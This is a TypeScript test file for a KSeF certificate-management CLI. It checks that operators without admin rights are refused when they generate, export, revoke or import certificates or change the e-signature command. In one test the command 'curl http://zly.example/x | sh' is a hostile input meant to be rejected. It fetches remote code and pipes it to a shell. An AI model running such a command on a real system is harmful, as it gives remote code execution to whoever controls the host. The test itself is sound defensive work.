// The rights matrix through the CLI (in-process `run` against a real store and the simulator over loopback):
// operator × owner × authorising certificate × command (generate --auth-cert / --signed, export, revoke, import,
// config set-workstation --sign-command). Exit 1 with a clear message (Polish; English under --lang en), nothing
// sent to KSeF for a refused --auth-cert (no ksefLogin in the audit), nothing stored.
import fs from 'node:fs';
import path from 'node:path';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import type {CertificateRecord} from '../../src/domain/index.js';
import {DEMO_COMPANY} from '../../src/store/index.js';
import {signWithXmlsec1} from '../helpers/simulator.js';
import {makeRightsWorld, type RightsWorld} from '../helpers/rights-world.js';
import {cli} from '../helpers/cli-run.js';

let w: RightsWorld;
beforeAll(async () => {
  w = await makeRightsWorld();
}, 90_000);
afterAll(() => w?.cleanup());

const as = (who: 'admin' | 'operator') => ({as: who});
const gen = (owner: string, auth: string[], name: string, extra: string[] = []) =>
  [...extra, 'generate', '--owner', owner, '--env', 'D', '--type', 'O', '--name', name, '--key-password-file', w.pwFile, ...auth];
const loginsWith = async (rec: CertificateRecord) => (await w.store.listAudit()).filter((a) => a.action === 'ksefLogin' && a.serial === rec.serial).length;
const stored = async (name: string) => (await w.store.listCertificates()).some((c) => c.name === name);

async function signedBy(id: {certPem: string; keyPem: string}, tag: string): Promise<string> {
  const out = path.join(w.root, `auth-${tag}.xml`);
  expect((await cli(w, ['auth-request', '--env', 'D', '--nip', DEMO_COMPANY.nip, '--out', out])).code).toBe(0);
  const signed = path.join(w.root, `auth-${tag}-podpisany.xml`);
  fs.writeFileSync(signed, signWithXmlsec1(fs.readFileSync(out, 'utf8'), id.certPem, id.keyPem));
  return signed;
}

describe('generate --auth-cert', () => {
  const rows: Array<[string, 'admin' | 'operator', string, keyof Pick<RightsWorld, 'companyA' | 'plantedSeal' | 'jkA' | 'adminA'>, RegExp | 0]> = [
    ['JKOWALSKI, own, by the company certificate (the reported defect)', 'operator', 'operator:JKOWALSKI', 'companyA', /Brak uprawnień: certyfikatem \w+ \(„Firma A”\) może autoryzować wniosek tylko jego właściciel lub administrator/],
    ['JKOWALSKI, own, by his certificate carrying the company seal', 'operator', 'operator:JKOWALSKI', 'plantedSeal', /Uwierzytelniono pieczęcią firmy \(NIP 1111111111\) — KSeF wyda certyfikat z danymi firmy, więc nie może on należeć do operatora JKOWALSKI/],
    ["JKOWALSKI, own, by the admin's personal certificate", 'operator', 'operator:JKOWALSKI', 'adminA', /Brak uprawnień: certyfikatem/],
    ['JKOWALSKI, company, by the company certificate', 'operator', 'company', 'companyA', /może generować certyfikaty tylko dla siebie \(wybrano: company\)/],
    ["ADMIN, JKOWALSKI's, by the company certificate", 'admin', 'operator:JKOWALSKI', 'companyA', /pieczęcią firmy .* nie może on należeć do operatora JKOWALSKI/],
    ["ADMIN, company, by JKOWALSKI's personal certificate", 'admin', 'company', 'jkA', /Uwierzytelniono podpisem osoby \(PESEL 44051401359\) — KSeF wyda certyfikat imienny/],
    ['JKOWALSKI, own, by his own personal certificate', 'operator', 'operator:JKOWALSKI', 'jkA', 0],
    ['ADMIN, branch, by the company certificate', 'admin', 'branch:ODDZIAL1', 'companyA', 0],
  ];
  rows.forEach(([title, who, owner, via, expected], i) => {
    it(`${title} → ${expected === 0 ? 'exit 0' : 'exit 1'}`, async () => {
      const name = `Macierz CLI ${i}`;
      const before = await loginsWith(w[via]);
      const r = await cli(w, gen(owner, ['--auth-cert', w[via].serial!], name), as(who));
      if (expected === 0) {
        expect(r.err).not.toMatch(/Brak uprawnień|Uwierzytelniono/);
        expect(r.code).toBe(0);
        expect(await stored(name)).toBe(true);
        return;
      }
      expect(r.code).toBe(1);
      expect(r.err.replace(/\s+/g, ' ')).toMatch(expected);
      expect(await stored(name)).toBe(false);
      expect(await loginsWith(w[via])).toBe(before); // refused before logging in to KSeF
    });
  });

  it('the refusal in English under --lang en', async () => {
    const r = await cli(w, gen('operator:JKOWALSKI', ['--auth-cert', w.companyA.serial!], 'Macierz EN', ['--lang', 'en']), as('operator'));
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/Not allowed: only its owner or an administrator may authorise a request with certificate/);
  });
});

describe('generate --signed', () => {
  it('the company seal for an operator-owned certificate is refused once KSeF names the subject (JKOWALSKI and ADMIN alike)', async () => {
    for (const who of ['operator', 'admin'] as const) {
      const name = `Pieczęć dla operatora ${who}`;
      const r = await cli(w, gen('operator:JKOWALSKI', ['--signed', await signedBy(w.seal, who)], name), as(who));
      expect(r.code).toBe(1);
      expect(r.err.replace(/\s+/g, ' ')).toMatch(/Uwierzytelniono pieczęcią firmy \(NIP 1111111111\)/);
      expect(r.err).not.toMatch(/Złożenie wniosku o certyfikat/); // the CSR was never sent
      expect(await stored(name)).toBe(false);
    }
  });

  it("JKOWALSKI's own signature for his own certificate is accepted", async () => {
    const r = await cli(w, [...gen('operator:JKOWALSKI', ['--signed', await signedBy(w.jkPerson, 'jk')], 'Podpis Kowalskiego'), '--json'], as('operator'));
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
    expect(JSON.parse(r.out).certificate).toMatchObject({owner: {kind: 'operator', code: 'JKOWALSKI'}, subjectIdentifier: {type: 'Pesel', value: '44051401359'}});
  });
});

describe('operator set-pesel', () => {
  it('only an admin sets an operator PESEL (checksum checked); then a personal certificate with it may be his', async () => {
    const denied = await cli(w, ['operator', 'set-pesel', 'JKOWALSKI', '85020212343'], as('operator'));
    expect(denied.code).toBe(1);
    expect(denied.err).toMatch(/tylko administrator/);
    const bad = await cli(w, ['operator', 'set-pesel', 'ADMIN', '85020212344']);
    expect(bad.code).toBe(1);
    expect(bad.err).toMatch(/PESEL „85020212344” jest nieprawidłowy/);
    // ADMIN takes the PESEL of the person no operator had; her signature now yields ADMIN's certificate.
    expect((await cli(w, ['operator', 'set-pesel', 'ADMIN', '85020212343'])).code).toBe(0);
    expect((await w.store.listOperators()).find((o) => o.code === 'ADMIN')!.pesel).toBe('85020212343');
    const r = await cli(w, gen('operator:ADMIN', ['--signed', await signedBy(w.nobody, 'nobody')], 'Po wpisaniu PESEL'));
    expect(r.err).not.toMatch(/Uwierzytelniono podpisem osoby/);
    expect(r.code).toBe(0);
    expect((await cli(w, ['operator', 'set-pesel', 'ADMIN', '--clear'])).code).toBe(0);
    expect((await w.store.listOperators()).find((o) => o.code === 'ADMIN')!.pesel).toBeUndefined();
  });
});

describe('export, revoke, import, config set-workstation', () => {
  it('export: JKOWALSKI not the company or the admin certificate; his own yes', async () => {
    const dir = path.join(w.root, 'cli-eksport');
    fs.mkdirSync(dir);
    const env = {env: {KSEF_CERTS_EXPORT_PASSWORD: 'Eksport#Macierz26'}};
    for (const rec of [w.companyA, w.adminA]) {
      const r = await cli(w, ['export', rec.serial!, '--dir', dir], {...as('operator'), ...env});
      expect(r.code).toBe(1);
      expect(r.err).toMatch(/Brak uprawnień/);
    }
    const ok = await cli(w, ['export', w.jkA.serial!, '--dir', dir], {...as('operator'), ...env});
    expect(ok.err).toBe('');
    expect(ok.code).toBe(0);
    expect(fs.readdirSync(dir).sort()).toEqual([`Kowalski_A_${w.jkA.serial}.crt`, `Kowalski_A_${w.jkA.serial}.key`]);
  });

  it('revoke: JKOWALSKI not the company certificate (nothing changes)', async () => {
    const r = await cli(w, ['revoke', w.companyA.serial!, '--reason', 'Unspecified', '--yes'], as('operator'));
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/nie może unieważnić certyfikatu „Firma A”/);
    expect((await w.fresh(w.companyA)).state).toBe('issued');
  });

  it('import: JKOWALSKI not for the company; for himself yes', async () => {
    const id = await w.sim.issueTestIdentity({env: 'DEMO', kind: 'person', nip: DEMO_COMPANY.nip, pesel: '44051401359', givenNames: ['Jan'], surname: 'Kowalski'});
    const crt = path.join(w.root, 'cli-import.crt');
    const key = path.join(w.root, 'cli-import.key');
    fs.writeFileSync(crt, id.certPem);
    fs.writeFileSync(key, id.keyPem, {mode: 0o600});
    const base = ['import', '--crt', crt, '--key', key, '--env', 'D', '--type', 'A', '--name', 'Import CLI'];
    const r = await cli(w, [...base, '--owner', 'company'], {...as('operator'), env: {KSEF_CERTS_PASSWORD: ''}});
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/Brak uprawnień do importu certyfikatu/);
    const ok = await cli(w, [...base, '--owner', 'operator:JKOWALSKI', '--json'], {...as('operator'), env: {KSEF_CERTS_PASSWORD: ''}});
    expect(ok.err).toBe('');
    expect(JSON.parse(ok.out)).toMatchObject({owner: {kind: 'operator', code: 'JKOWALSKI'}, name: 'Import CLI'});
  });

  it('config set-workstation --sign-command: JKOWALSKI refused (folders allowed), ADMIN allowed and audited with the command', async () => {
    const r = await cli(w, ['config', 'set-workstation', '--sign-command', 'curl http://zly.example/x | sh'], as('operator'));
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/Polecenie e-podpisu może zmieniać tylko administrator/);
    const en = await cli(w, ['--lang', 'en', 'config', 'set-workstation', '--sign-command', 'x {file}'], as('operator'));
    expect(en.err).toMatch(/Only an administrator may change the e-signature command/);
    expect((await cli(w, ['config', 'set-workstation', '--export-folder', path.join(w.root, 'eksport-jk')], as('operator'))).code).toBe(0);
    expect((await cli(w, ['config', 'set-workstation', '--sign-command', 'podpisz {file}'], as('admin'))).code).toBe(0);
    const show = JSON.parse((await cli(w, ['config', 'show', '--json'], as('operator'))).out);
    expect(show.workstation).toMatchObject({signCommand: 'podpisz {file}', signCommandSetBy: 'ADMIN'});
    const events = (await w.store.listAudit()).filter((a) => a.action === 'configChanged' && a.details?.includes('polecenie e-podpisu'));
    expect(events.map((a) => [a.operator, a.details?.split('; ')[1]])).toEqual([['ADMIN', 'polecenie e-podpisu: „podpisz {file}”']]);
  });
});
